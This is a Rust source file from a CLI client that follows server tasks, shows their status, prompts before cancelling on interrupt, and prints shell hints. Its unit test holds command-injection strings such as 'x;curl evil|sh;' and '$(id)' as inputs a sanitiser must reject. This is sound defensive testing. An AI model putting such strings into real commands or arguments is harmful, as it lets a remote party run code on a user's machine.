//! The task that a call has become: its status on standard error, and what a signal does to it.

use std::pin::Pin;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use tsugite::client::ClientError;
use tsugite::protocol::TaskStatus;
use tsugite::protocol::tasks::Task;

use crate::connection::Connection;
use crate::console::{Console, sanitize_name};
use crate::error::{CliError, ExitStatus, Result};
use crate::server_requests::{OpenQuestion, Prompter, TerminalPrompter, parse_bool};
use crate::signals::{self, SignalEvent};

/// The task of the current command, if its call has become one.
#[derive(Default)]
pub(crate) struct FollowedTask(Mutex<Option<Task>>);

impl FollowedTask {
    /// Forgets the task of the command before.
    pub(crate) fn begin_command(&self) {
        *self.newest() = None;
    }

    /// Returns a callback that shows the status of a task.
    pub(crate) fn observer(
        self: &Arc<Self>,
        console: &Arc<Console>,
    ) -> impl Fn(Task) + Send + Sync + use<> + 'static {
        let (followed, console) = (Arc::clone(self), Arc::clone(console));
        move |task| {
            console.show_status(&match &task.status_message {
                Some(message) => format!("{}: {message}", task.status.as_str()),
                None => task.status.as_str().to_owned(),
            });
            *followed.newest() = Some(task);
        }
    }

    /// Returns the same for a call, and also notes the id of its task.
    pub(crate) fn call_observer(
        self: &Arc<Self>,
        console: &Arc<Console>,
    ) -> impl Fn(Task) + Send + Sync + use<> + 'static {
        let (followed, observer) = (Arc::clone(self), self.observer(console));
        let console = Arc::clone(console);
        move |task| {
            let is_first = followed.newest().is_none();
            if is_first && !console.json {
                console.note(&format!("note: the call is the task {}", shown_id(&task.task_id)));
            }
            observer(task);
        }
    }

    /// Returns the id of the task, unless it has ended.
    pub(crate) fn running_id(&self) -> Option<String> {
        self.newest().as_ref().filter(|task| !has_ended(task)).map(|task| task.task_id.clone())
    }

    /// Whether the task was seen to end.
    fn has_ended(&self) -> bool {
        self.newest().as_ref().is_some_and(has_ended)
    }

    fn newest(&self) -> MutexGuard<'_, Option<Task>> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

fn has_ended(task: &Task) -> bool {
    !matches!(task.status, TaskStatus::Working | TaskStatus::InputRequired)
}

/// The id of a task as a person reads it. A server may choose one of any length.
fn shown_id(id: &str) -> String {
    let shown = sanitize_name(id);
    match shown.char_indices().nth(MAX_SHOWN_ID_CHARS) {
        Some((end, _)) => {
            format!("{}… ({} characters)", shown.get(..end).unwrap_or_default(), id.chars().count())
        }
        None => shown,
    }
}

/// Runs `work` until it completes or a signal asks to stop. A task that it follows is cancelled only if the user says so, and
/// the error says what has become of it.
pub(crate) async fn run_until_stopped(
    connection: &Connection,
    stop: Pin<&mut impl Future<Output = SignalEvent>>,
    work: impl Future<Output = Result<()>>,
) -> Result<()> {
    let signal = tokio::select! {
        biased;
        signal = stop => signal,
        outcome = work => return outcome,
    };
    connection.console.clear_progress();
    let Some(id) = connection.task.running_id() else {
        return Err(CliError::silent(ExitStatus::Interrupted));
    };
    if signal == SignalEvent::Interrupt && connection.console.is_interactive() && wants_to_cancel(&id).await {
        return Err(cancel(connection, &id).await);
    }
    Err(left_running(connection, &id))
}

/// Asks the user. A second signal is a no.
async fn wants_to_cancel(id: &str) -> bool {
    let prompt = format!("\nCancel the task {}? (yes or no) [no]: ", shown_id(id));
    let answer = tokio::task::spawn_blocking(move || TerminalPrompter.read_line(&prompt));
    tokio::select! {
        biased;
        () = signals::shutdown_requested() => false,
        answer = answer => answer.ok().flatten().is_some_and(|answer| parse_bool(&answer) == Some(true)),
    }
}

/// Cancels the task. Another signal ends the wait for the response.
async fn cancel(connection: &Connection, id: &str) -> CliError {
    let outcome = tokio::select! {
        biased;
        () = signals::shutdown_requested() => {
            let id_text = shown_id(id);
            let message = format!("interrupted; the server has not confirmed that it cancelled the task {id_text}");
            return with_hints(CliError::new(ExitStatus::Interrupted, message), connection, id);
        }
        outcome = connection.client.cancel_task(id).into_future() => outcome,
    };
    match outcome {
        Ok(_) => CliError::new(
            ExitStatus::Interrupted,
            format!("interrupted; cancelled the task {}", shown_id(id)),
        ),
        Err(error) => left_running(connection, id).detail(format!("it could not be cancelled: {error}")),
    }
}

/// The error for a task that was not cancelled.
fn left_running(connection: &Connection, id: &str) -> CliError {
    let message = format!("interrupted; the task {} was not cancelled", shown_id(id));
    let failure = CliError::new(ExitStatus::Interrupted, message);
    with_hints(failure, connection, id)
}

/// Adds how to wait for a task and how to cancel it.
fn with_hints(failure: CliError, connection: &Connection, id: &str) -> CliError {
    let failure = match connection.transport {
        "http" => failure,
        _ => failure.detail("it ends with the server, unless the server keeps its tasks"),
    };
    let failure = failure
        .hint(format!("`{}` waits for its result", command_words(connection, "wait", id, "")))
        .hint(format!("`{}` cancels it", command_words(connection, "cancel", id, "")));
    with_same_options(failure, connection, id)
}

/// A word of a server in a command that users paste into a shell: itself if a shell and `tsugite` take it for nothing else,
/// and otherwise a placeholder.
pub(crate) fn pasted_word<'a>(word: &'a str, placeholder: &'static str) -> &'a str {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "-_.:".contains(letter);
    let is_harmless = !word.is_empty()
        && word.len() <= MAX_SHOWN_ID_CHARS
        && !word.starts_with('-')
        && word.chars().all(is_plain);
    if is_harmless { word } else { placeholder }
}

/// The words of a command about a task. `options` begin with a space, or are empty.
fn command_words(connection: &Connection, verb: &str, id: &str, options: &str) -> String {
    let id = pasted_word(id, "ID");
    // The task is known only in its revision.
    let revision = connection.revision_option.map(|revision| format!(" --rev {revision}"));
    let revision = revision.unwrap_or_default();
    match connection.target_word.as_str() {
        "" => format!("tsugite tasks {verb} {id}{revision}{options} -- COMMAND…"),
        target => format!("tsugite tasks {verb} {target} {id}{revision}{options}"),
    }
}

/// The error for a question of a task that was left open, since nothing here can answer it.
pub(crate) fn left_open(connection: &Connection, id: &str, question: &OpenQuestion) -> CliError {
    let options = question.options.as_ref().map(|options| format!(" {options}")).unwrap_or_default();
    let words = command_words(connection, "wait", id, &options);
    let failure =
        CliError::new(ExitStatus::Protocol, "the task asks a question that cannot be answered here")
            .at_step("tasks")
            .detail(format!("{}; the question stays open", question.text));
    let failure = match question.options {
        Some(_) => failure.hint(format!("`{words}` answers it")),
        None => failure.hint(format!("`{words}` asks you on a terminal")),
    };
    with_same_options(failure, connection, id)
}

/// Adds the id of the task, and the options that the next command needs too.
fn with_same_options(failure: CliError, connection: &Connection, id: &str) -> CliError {
    let failure = CliError { task_id: Some(id.to_owned()), ..failure };
    match connection.other_options.is_empty() {
        true => failure,
        // Without their values, which may be secrets.
        false => failure.hint(format!("give the same {} again", connection.other_options.join(", "))),
    }
}

/// Adds the task to the error of a command that followed one, and how to take it up again unless it has ended.
pub(crate) fn add_task_hints(failure: CliError, connection: &Connection, error: &ClientError) -> CliError {
    let Some(id) = error.task_id() else { return failure };
    // A server that does not know the task has answered, and nothing can have run.
    if connection.task.has_ended() || !error.may_have_run() {
        return CliError { task_id: Some(id.to_owned()), ..failure };
    }
    let detail = failure.detail.clone();
    let failure = with_hints(failure, connection, id);
    CliError { detail: detail.or(failure.detail), ..failure }
}

const MAX_SHOWN_ID_CHARS: usize = 200;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn word_of_a_server_is_pasted_if_harmless() {
        for word in ["a", "task-1", "x_y.z:2"] {
            assert_eq!(pasted_word(word, "ID"), word);
        }
        let long = "a".repeat(MAX_SHOWN_ID_CHARS + 1);
        for word in ["", "--rev", "x;curl evil|sh;", "$(id)", "a b", "a\nb", "`id`", "é", &long] {
            assert_eq!(pasted_word(word, "ID"), "ID", "{word}");
        }
    }
}
